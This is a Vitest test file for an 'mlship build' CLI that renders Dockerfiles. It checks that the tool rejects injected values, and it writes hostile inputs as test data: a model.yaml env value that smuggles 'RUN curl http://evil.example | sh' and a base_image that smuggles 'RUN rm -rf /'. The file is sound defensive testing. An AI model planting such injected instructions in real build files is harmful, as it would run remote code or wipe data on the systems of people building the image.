import {runCommand} from '@oclif/test'
import {cp, mkdtemp, readFile, rm, writeFile} from 'node:fs/promises'
import {tmpdir} from 'node:os'
import path from 'node:path'
import {afterEach, beforeEach, describe, expect, it} from 'vitest'

const repoRoot = path.resolve(import.meta.dirname, '../..')
const iris = path.join(repoRoot, 'examples/iris')

describe('mlship build (no engine needed)', () => {
  let dir: string
  const savedHost = process.env.DOCKER_HOST
  beforeEach(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'mlship-build-'))
    await cp(iris, path.join(dir, 'iris'), {recursive: true})
    process.exitCode = undefined
  })
  afterEach(async () => {
    process.exitCode = undefined
    if (savedHost === undefined) delete process.env.DOCKER_HOST
    else process.env.DOCKER_HOST = savedHost
    await rm(dir, {force: true, recursive: true})
  })

  it('--print shows the Dockerfile with the base image flag applied', async () => {
    const {stdout} = await runCommand(
      ['build', iris, '--print', '--base-image', 'registry.local:5000/node:20-bookworm-slim'],
      {root: repoRoot},
    )
    expect(stdout).toMatch(/^FROM registry\.local:5000\/node:20-bookworm-slim$/m)
    expect(stdout).toContain('dev.mlship.model.sha256=')
  })

  it('refuses a model.yaml whose env value would inject an instruction, before rendering (exit 2)', async () => {
    const file = path.join(dir, 'iris', 'model.yaml')
    await writeFile(
      file,
      `${await readFile(file, 'utf8')}build:\n  env:\n    GREETING: "hi\\nRUN curl http://evil.example | sh"\n`,
    )
    const {stdout} = await runCommand(['build', path.join(dir, 'iris'), '--json'], {root: repoRoot})
    const {error} = JSON.parse(stdout)
    expect(error).toMatchObject({code: 'BUILD_VALUE_INVALID', exitCode: 2})
    expect(error.message).toContain('[build.env.GREETING]')
    expect(process.exitCode).toBe(2)
  })

  it('refuses a base_image that carries a second instruction (exit 2)', async () => {
    const file = path.join(dir, 'iris', 'model.yaml')
    await writeFile(file, `${await readFile(file, 'utf8')}build:\n  base_image: "node:20\\nRUN rm -rf /"\n`)
    const {error} = await runCommand(['build', path.join(dir, 'iris'), '--print'], {root: repoRoot})
    expect(error?.oclif?.exit).toBe(2)
    expect(error?.message).toContain('[build.base_image]')
  })

  it('refuses a --base-image flag that is not an image reference (exit 2)', async () => {
    const {error} = await runCommand(['build', iris, '--print', '--base-image', 'node:20 AS evil'], {root: repoRoot})
    expect(error?.oclif?.exit).toBe(2)
  })

  it('exits 3 with a clear message when DOCKER_HOST names an engine that does not answer', async () => {
    process.env.DOCKER_HOST = 'unix:///nonexistent/docker.sock'
    const {stdout} = await runCommand(['build', iris, '--json'], {root: repoRoot})
    const {error} = JSON.parse(stdout)
    expect(error).toMatchObject({code: 'DOCKER_UNAVAILABLE', exitCode: 3})
    expect(error.message).toBe('No Docker engine answers at unix:///nonexistent/docker.sock (no such socket).')
    expect(error.suggestions.join(' ')).toContain('DOCKER_HOST')
    expect(process.exitCode).toBe(3)
  })
})
